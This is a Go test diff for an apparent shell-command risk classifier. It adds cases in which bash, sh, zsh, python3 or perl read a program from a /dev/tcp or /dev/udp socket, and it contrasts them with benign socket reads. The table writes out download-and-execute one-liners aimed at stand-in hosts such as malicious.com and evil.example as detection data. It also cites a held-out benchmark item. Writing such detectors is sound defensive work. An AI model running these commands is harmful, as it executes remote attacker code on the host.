@@ -40,3 +40,35 @@ func TestDownloadsIntoProgramFolders(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestShellRunsWhatASocketSends: a shell (or an interpreter) that reads
+// its program from a network socket runs what the remote host sends, as
+// "curl URL | sh" does (heldout10 w0252 "cat /dev/tcp/malicious.com/80 |
+// bash", download-execute). bash(1) REDIRECTION opens /dev/tcp/HOST/PORT
+// and /dev/udp/HOST/PORT as sockets; the family is every way the shell's
+// standard input comes from one: the shell's own "<" redirect, or cat of
+// the socket piped into it (the drawer's label for the argument form,
+// which bash does not emulate outside a redirect, is followed). Everyday
+// beside them: the socket read and printed, a literal sent to it, a local
+// script piped into a shell.
+func TestShellRunsWhatASocketSends(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`cat /dev/tcp/malicious.com/80 | bash`, DownloadExecute},
+		{`cat < /dev/tcp/evil.example/80 | sh`, DownloadExecute},
+		{`bash < /dev/tcp/evil.example/4444`, DownloadExecute},
+		{`sh -s < /dev/udp/10.0.0.1/53`, DownloadExecute},
+		{`zsh 0</dev/tcp/10.0.0.1/9001`, DownloadExecute},
+		{`cat </dev/tcp/10.0.0.1/80 | python3`, DownloadExecute},
+		{`perl < /dev/tcp/10.0.0.1/80`, DownloadExecute},
+		// Everyday: nothing run from the socket.
+		{`cat < /dev/tcp/time.nist.gov/13`, ""},
+		{`cat /dev/tcp/example.com/80`, ""},
+		{`cat install.sh | bash`, ""},
+		{`bash < ./setup.sh`, ""},
+		{`cat /dev/tcp/example.com/80 | grep HTTP`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
